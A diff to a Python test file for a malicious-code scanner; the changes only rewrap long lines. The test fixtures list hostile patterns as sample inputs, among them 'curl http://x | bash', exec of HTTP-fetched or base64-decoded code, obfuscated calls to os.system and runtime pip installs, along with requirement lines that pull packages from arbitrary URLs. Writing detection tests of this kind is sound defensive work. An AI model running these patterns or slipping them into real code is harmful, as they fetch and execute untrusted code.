@@ -9,7 +9,8 @@ from catalyst.models.scan.rules import RULES
 
 FOUND = {
     "exec of base64": ("import base64\nexec(base64.b64decode('eA=='))", {"node-exec-decoded": 2}),
-    "exec of a variable that was decoded": ("import zlib\nx = zlib.decompress(b'')\ny = 1\nexec(x.decode())", {"node-exec-decoded": 4}),
+    "exec of a variable that was decoded": ("import zlib\nx = zlib.decompress(b'')\ny = 1\nexec(x.decode())",
+    {"node-exec-decoded": 4}),
     "exec of what was fetched": ("import requests as r\nexec(r.get('http://x').text)", {"node-exec-decoded": 2}),
     "eval of an input": ("def f(self, code):\n    return eval(code)", {"node-exec": 2}),
     "an alias": ("from os import system as s\ns(input())", {"node-shell": 2}),
@@ -18,7 +19,8 @@ FOUND = {
     "vars of builtins": ("import builtins\nvars(builtins)['ev' + 'al'](x)", {"node-hidden-name": 2}),
     "getattr put together": ("import os\ngetattr(os, 'sys' + 'tem')(x)", {"node-hidden-name": 2}),
     "import put together": ("__import__('su' + 'bprocess')", {"node-hidden-name": 1}),
-    "pip": ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", {"node-runtime-install": 2}),
+    "pip": ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
+    {"node-runtime-install": 2}),
     "pip by shell": ("import os\nos.system('pip3 install requests')", {"node-runtime-install": 2}),
     "pip as a module": ("import pip\npip.main(['install', 'x'])", {"node-runtime-install": 2}),
     "curl to a shell": ("import os\nos.system('curl http://x | bash')", {"node-download-and-run": 2}),
@@ -67,19 +69,22 @@ def test_scripts_that_start_early(tmp_path: Path) -> None:
         assert [one.rule for one in child.examine(str(tmp_path / name))[1]] == ["node-starts-early"]
 
 
-@pytest.mark.parametrize("line", ["openai @ https://x/openai-1.30.2.whl", "git+https://x/y", "https://x/y.whl", "--extra-index-url http://x",
+@pytest.mark.parametrize("line", ["openai @ https://x/openai-1.30.2.whl", "git+https://x/y", "https://x/y.whl",
+    "--extra-index-url http://x",
                                   "-i http://x", "./wheel", "  --trusted-host x"])  # fmt: skip
 def test_requirements_by_address(line: str) -> None:
     found = list(nodes.requirements("requirements.txt", f"torch>=2\n{line}\n".encode()))
     assert [(one.rule, one.line) for one in found] == [("node-requirement-by-address", 2)]
 
 
-@pytest.mark.parametrize("line", ["torch>=2.6", "# see https://x", "numpy==1.26 ; python_version < '3.12'", "a[b]~=1.0  # git+x"])
+@pytest.mark.parametrize("line", ["torch>=2.6", "# see https://x", "numpy==1.26 ; python_version < '3.12'",
+    "a[b]~=1.0  # git+x"])
 def test_requirements_by_name(line: str) -> None:
     assert not list(nodes.requirements("requirements.txt", line.encode()))
 
 
-@pytest.mark.parametrize("source", [b"def (", b"\0", "x = 'é".encode("latin-1"), b"(" * 5000 + b")" * 5000, b"print 'two'"])
+@pytest.mark.parametrize("source", [b"def (", b"\0", "x = 'é".encode("latin-1"), b"(" * 5000 + b")" * 5000,
+    b"print 'two'"])
 def test_what_cannot_be_read_is_not_judged(tmp_path: Path, source: bytes) -> None:
     (tmp_path / "a.py").write_bytes(source)
     assert child.examine(str(tmp_path / "a.py"))[0].unjudged
@@ -87,5 +92,6 @@ def test_what_cannot_be_read_is_not_judged(tmp_path: Path, source: bytes) -> Non
 
 def test_every_rule_is_found_by_some_test() -> None:
     """Of those about nodes; the corpus has the others."""
-    seen = {rule for _, expected in FOUND.values() for rule in expected} | {"node-starts-early", "node-requirement-by-address"}
+    seen = {rule for _, expected in FOUND.values() for rule in expected} | {"node-starts-early",
+        "node-requirement-by-address"}
     assert {one for one in RULES if one.startswith("node-")} == seen
